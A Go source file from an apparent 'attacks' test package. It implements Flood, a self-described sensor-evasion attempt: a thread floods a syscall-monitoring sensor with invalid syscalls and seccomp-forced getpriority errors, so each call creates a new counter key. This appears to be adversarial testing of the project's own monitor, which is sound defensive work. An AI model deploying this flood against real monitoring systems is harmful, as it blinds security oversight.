package attacks

import (
	"fmt"
	"runtime"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// FloodErrnos is how many errnos Flood's seccomp filter makes getpriority
// fail with: one counter key each.
const FloodErrnos = 4095

// Flood is the key-making pod of issue 13, the sensor-evasion attempt: for
// d, one thread alternates syscall numbers outside the table (ENOSYS, a
// new number each call) with getpriority made to fail by its own seccomp
// filter with errno 1 + i%4095, a new (syscall, errno) key each call. An
// unprivileged process can do all of it. It answers how many calls of each
// kind it made; the calling goroutine's thread keeps the filter and dies
// with it.
func Flood(d time.Duration) (invalid, keys uint64, err error) {
	type result struct {
		invalid, keys uint64
		err           error
	}
	res := make(chan result, 1)
	go func() {
		// The filter stays on this thread, which dies with the goroutine.
		runtime.LockOSThread()
		if err := getpriorityErrnoFilter(); err != nil {
			res <- result{err: err}
			return
		}
		var r result
		deadline := time.Now().Add(d)
		for i := 0; time.Now().Before(deadline); {
			for j := 0; j < 1000; j, i = j+1, i+1 {
				unix.Syscall(uintptr(1000+i%100000), 0, 0, 0)
				unix.Syscall(unix.SYS_GETPRIORITY, uintptr(1+i%FloodErrnos), 0, 0)
			}
			r.invalid += 1000
			r.keys += 1000
		}
		res <- r
	}()
	r := <-res
	return r.invalid, r.keys, r.err
}

// getpriorityErrnoFilter installs, on the calling thread, a seccomp filter
// under which getpriority(which, ...) fails with errno which&0xfff and
// every other syscall runs.
func getpriorityErrnoFilter() error {
	const (
		retErrno = 0x00050000 // SECCOMP_RET_ERRNO
		retAllow = 0x7fff0000 // SECCOMP_RET_ALLOW
		argsOff  = 16         // offsetof(struct seccomp_data, args[0]), low word on little endian
	)
	prog := []unix.SockFilter{
		{Code: unix.BPF_LD | unix.BPF_W | unix.BPF_ABS, K: 0}, // nr
		{Code: unix.BPF_JMP | unix.BPF_JEQ | unix.BPF_K, K: unix.SYS_GETPRIORITY, Jt: 0, Jf: 4},
		{Code: unix.BPF_LD | unix.BPF_W | unix.BPF_ABS, K: argsOff},
		{Code: unix.BPF_ALU | unix.BPF_AND | unix.BPF_K, K: 0xfff},
		{Code: unix.BPF_ALU | unix.BPF_OR | unix.BPF_K, K: retErrno},
		{Code: unix.BPF_RET | unix.BPF_A},
		{Code: unix.BPF_RET | unix.BPF_K, K: retAllow},
	}
	if err := unix.Prctl(unix.PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0); err != nil {
		return fmt.Errorf("no_new_privs: %w", err)
	}
	fp := unix.SockFprog{Len: uint16(len(prog)), Filter: &prog[0]}
	if err := unix.Prctl(unix.PR_SET_SECCOMP, unix.SECCOMP_MODE_FILTER, uintptr(unsafe.Pointer(&fp)), 0, 0); err != nil {
		return fmt.Errorf("seccomp filter: %w", err)
	}
	return nil
}
